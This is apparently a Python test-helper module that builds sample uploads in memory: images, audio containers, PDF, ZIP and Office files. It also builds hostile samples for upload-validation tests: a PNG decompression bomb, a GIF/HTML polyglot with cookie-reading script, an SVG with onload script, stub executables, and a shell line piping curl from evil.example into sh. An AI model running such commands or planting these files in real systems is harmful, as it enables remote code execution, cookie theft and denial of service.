"""Small, real sample files built in memory for the upload tests (no fixtures on disk).

Images come from Pillow and WAV from the `wave` module. The other audio containers (MP3, Ogg, WebM,
M4A) are built by hand: a correct container header with silent or empty payload, which is what
libmagic identifies them by. No encoder is needed, and none is faked beyond that.
"""

import functools
import io
import struct
import wave
import zipfile
import zlib

from PIL import Image


def image_bytes(fmt: str, size: tuple[int, int] = (40, 30), *, exif: Image.Exif | None = None, mode="RGB") -> bytes:
    image = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else 1)
    buffer = io.BytesIO()
    kwargs = {"exif": exif} if exif is not None else {}
    image.save(buffer, format=fmt, **kwargs)
    return buffer.getvalue()


def jpeg_with_gps_exif(size: tuple[int, int] = (60, 40), orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation  # Orientation: 6 = rotate 90° clockwise to display
    exif[0x010F] = "SpyCam Inc."  # Make
    gps = {1: "N", 2: (52.0, 22.0, 11.0), 3: "E", 4: (4.0, 53.0, 30.0)}
    exif[0x8825] = gps  # GPSInfo IFD
    return image_bytes("JPEG", size, exif=exif)


def wav_bytes(frames: int = 800) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"\x00\x00" * frames)
    return buffer.getvalue()


def mp3_bytes(frames: int = 4) -> bytes:
    # ID3v2.3 tag (no frames) followed by MPEG-1 Layer III frames: 128 kbit/s, 44.1 kHz, no padding
    # -> 144 * 128000 / 44100 = 417 bytes each, payload zeroed (decodes as silence-ish garbage).
    id3 = b"ID3\x03\x00\x00\x00\x00\x00\x00"
    frame = b"\xff\xfb\x90\x64" + b"\x00" * 413
    return id3 + frame * frames


def _ogg_crc(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else crc << 1
            crc &= 0xFFFFFFFF
    return crc


def ogg_bytes() -> bytes:
    """One Ogg page (beginning of stream) holding a Vorbis identification header."""
    vorbis_id = (
        b"\x01vorbis"
        + struct.pack("<IBIiii", 0, 1, 44100, 0, 128000, 0)
        + b"\xb8"  # blocksizes 256/2048
        + b"\x01"  # framing bit
    )
    header = struct.pack("<4sBBqIIIB", b"OggS", 0, 0x02, 0, 0x1234, 0, 0, 1) + bytes([len(vorbis_id)])
    page = header + vorbis_id
    crc = _ogg_crc(page)
    return page[:22] + struct.pack("<I", crc) + page[26:]


def _ebml(element_id: bytes, payload: bytes) -> bytes:
    return element_id + bytes([0x80 | len(payload)]) + payload  # 1-byte size, payloads < 127 bytes


def webm_bytes() -> bytes:
    header = _ebml(
        b"\x1a\x45\xdf\xa3",
        _ebml(b"\x42\x86", b"\x01")  # EBMLVersion
        + _ebml(b"\x42\xf7", b"\x01")  # EBMLReadVersion
        + _ebml(b"\x42\xf2", b"\x04")  # EBMLMaxIDLength
        + _ebml(b"\x42\xf3", b"\x08")  # EBMLMaxSizeLength
        + _ebml(b"\x42\x82", b"webm")  # DocType
        + _ebml(b"\x42\x87", b"\x04")  # DocTypeVersion
        + _ebml(b"\x42\x85", b"\x02"),  # DocTypeReadVersion
    )
    segment = b"\x18\x53\x80\x67" + b"\x01\xff\xff\xff\xff\xff\xff\xff"  # Segment, unknown size
    return header + segment


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def m4a_bytes() -> bytes:
    ftyp = _box(b"ftyp", b"M4A " + struct.pack(">I", 0) + b"M4A mp42isom")
    return ftyp + _box(b"free", b"") + _box(b"mdat", b"")


def pdf_bytes() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def zip_bytes(entries: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (entries or {"notes/readme.txt": b"hello from a zip\n"}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{content_type}"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="{part}"/></Relationships>'
)


def docx_bytes() -> bytes:
    part = "word/document.xml"
    content_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>"
    )
    return zip_bytes(
        {
            "[Content_Types].xml": _CONTENT_TYPES.format(part=part, content_type=content_type).encode(),
            "_rels/.rels": _RELS.format(part=part).encode(),
            part: document.encode(),
        }
    )


def xlsx_bytes() -> bytes:
    part = "xl/workbook.xml"
    content_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'
    )
    return zip_bytes(
        {
            "[Content_Types].xml": _CONTENT_TYPES.format(part=part, content_type=content_type).encode(),
            "_rels/.rels": _RELS.format(part=part).encode(),
            part: workbook.encode(),
        }
    )


def png_bomb_bytes(width: int = 30000, height: int = 30000) -> bytes:
    """A PNG that claims 900 megapixels: tiny on disk, gigabytes once decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@functools.cache
def animated_gif(width: int, height: int, frames: int) -> bytes:
    """An animated GIF of `frames` flat frames: a few dozen KB on disk for 5000x5000 x 2 (50 megapixels)."""
    images = [Image.new("P", (width, height), index) for index in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, format="GIF", save_all=True, append_images=images[1:], duration=100)
    return buffer.getvalue()


@functools.cache
def gradient_png(width: int, height: int) -> bytes:
    """A PNG that compresses to ~85 KB at 5000x5000 yet takes most of a CPU second to re-encode."""
    buffer = io.BytesIO()
    Image.linear_gradient("L").resize((width, height)).convert("RGB").save(buffer, format="PNG")
    return buffer.getvalue()


def gif_html_polyglot() -> bytes:
    """A valid GIF whose comment block carries an HTML page (renders as HTML if ever sniffed)."""
    image = Image.new("P", (4, 4), 0)
    buffer = io.BytesIO()
    image.save(buffer, format="GIF", comment=b"<html><body><script>alert(document.cookie)</script></body></html>")
    return buffer.getvalue()


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'
)
HTML = b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"\x00" * 64
    + b"PE\x00\x00"
    + b"\x00" * 64
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
